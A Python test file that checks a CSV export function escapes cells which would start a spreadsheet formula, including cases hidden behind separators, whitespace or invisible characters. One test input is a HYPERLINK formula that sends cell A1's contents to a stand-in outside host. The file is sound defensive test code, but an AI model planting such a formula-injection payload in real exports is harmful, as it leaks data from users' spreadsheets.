"""No cell of a list in CSV begins a formula, whichever separator the spreadsheet expects; every text comes back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stacks.exports import as_csv

LINK = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'
UNSEEN = re.compile(r"[\s\"\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*")


def written(text: str) -> str:
    [row] = csv.DictReader(io.StringIO(as_csv(["text", "other"], [{"text": text, "other": "x"}]), newline=""))
    assert row["other"] == "x"
    return row["text"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("before", ["", " ", "\t", "\r", "\n", "\ufeff", "\u200b", '"', "x;", 'x";"', "x\n", "x\t "])
def test_a_formula_is_marked_as_text(before: str, sign: str) -> None:
    assert written(f"{before}{sign}1+1") == f"{before}'{sign}1+1"


def test_a_link_is_marked_as_text() -> None:
    assert written(LINK) == f"'{LINK}"
    assert written(f"see;{LINK}") == f"see;'{LINK}"


@pytest.mark.parametrize("text", ["a-b", "a = b", "numpy==2.3.3", "1, -2", "“2026-11-20” is active.", "user@gp02", ""])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert written(text) == text


@given(st.text(st.sampled_from("=+-@;,\t\r\n \"'\ufeffab"), max_size=30))
def test_no_cell_begins_a_formula_and_every_text_comes_back(text: str) -> None:
    shown = written(text)
    begins = {UNSEEN.sub("", cell, count=1)[:1] for cell in re.split(r"[;\t\r\n]", shown)}
    assert begins.isdisjoint("=+-@")
    assert shown.replace("'", "") == text.replace("'", "")
